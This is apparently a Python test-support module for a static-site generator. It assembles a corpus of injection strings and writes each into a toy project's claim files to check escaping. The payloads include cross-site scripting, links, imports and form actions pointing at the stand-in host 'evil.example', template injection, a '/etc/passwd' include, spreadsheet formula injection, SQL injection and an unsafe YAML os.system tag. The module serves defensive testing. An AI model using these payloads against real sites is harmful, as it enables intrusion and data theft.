"""Texts that try to make a page do something: our own corpus, and a project that holds them all.

Each breaks out of another place (a text, an attribute, a script, a comment, Markdown, YAML) and then
tries another way to run something, or to ask somebody else for something.
"""

import json
from collections.abc import Iterable, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import yaml

from checkpress.claims import yaml_reader
from checkpress.claims.model import ClaimFile
from hostile import Texts, replaced
from sites import TOY, copy_of_toy

BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</script>",
    "</title></textarea></style>",
    "--><!-->",
    "]]>",
    "`\n\n",
    '\\\\" ',
)
"""What ends where a text may stand."""

RUNS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
)
"""What then tries to do something."""

OTHERS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](//evil.example/p.png)",
    "![x](https://evil.example/p.png){onerror=alert(1)}",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
    "{: onclick=alert(1) }",
    '<https://evil.example/" onmouseover=alert(1)>',
    "**<svg onload=alert(1)>**",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    '{{ claim("2026/x/y") }}',
    "%%checkpress:head%%<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1, -2+3, =HYPERLINK("https://evil.example")',
    "'; DROP TABLE claims; --",
    "!!python/object/apply:os.system ['true']",
    "*alias &anchor <<: *x",
    "constructor __proto__ toString",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "a" * 300,
    "\u202egnp.exe\u202c \u2066x\u2069",
)
"""What needs no way out: Markdown, templates, tables, other programs."""

PAYLOADS = tuple(dict.fromkeys((*(f"{a}{b}" for a in BREAKS for b in RUNS), *OTHERS)))


def payload_files(texts: Iterable[str]) -> Iterator[tuple[str, str, str]]:
    """A claim file for each text, which stands in every free text of it: name, text, content."""
    file = TOY / "claims/2026/courier-nettle-tea.yml"
    document, problems = yaml_reader.read(file.read_bytes(), file.name)
    assert document, problems
    whole: Any = document.data
    sources = frozenset(str(source["id"]) for source in whole["sources"])
    for number, text in enumerate(texts):
        data: Any = json.loads(json.dumps(whole, default=str))
        # What leads to other files, or what others lead to, is there once.
        data["article"].pop("formerly", None)
        for claim in data["claims"]:
            for key in ("related", "formerly", "media"):
                claim.pop(key, None)
        data = replaced(data, ClaimFile, Texts(text, count(1), sources))
        yield f"p{number}", text, yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def payload_project(folder: Path, texts: Iterable[str]) -> dict[str, str]:
    """The toy project with such a file for each text; by their paths, the texts."""
    copy_of_toy(folder)
    found = {}
    for name, text, content in payload_files(texts):
        (folder / "claims/2026" / f"{name}.yml").write_text(content, "utf-8")
        found[f"2026/{name}"] = text
    return found
